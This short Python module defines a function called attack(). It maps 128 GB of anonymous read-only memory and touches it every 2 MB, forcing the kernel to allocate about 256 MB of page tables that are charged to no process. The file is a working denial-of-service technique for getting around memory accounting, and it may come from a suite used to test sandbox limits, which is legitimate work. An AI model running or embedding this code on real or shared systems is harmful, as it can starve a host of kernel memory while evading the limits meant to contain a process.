# mypy: ignore-errors
import mmap

SPAN = 1 << 37  # bytes looked at, which need 256 MB of tables


def attack():
    """Take memory that counts for no process: a page of the kernel's tables for each 2 MB that is looked at."""
    pages = mmap.mmap(-1, SPAN, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
    for place in range(0, SPAN, 2 << 20):
        pages[place]
    return [f"took {SPAN >> 29} MB of page tables"]
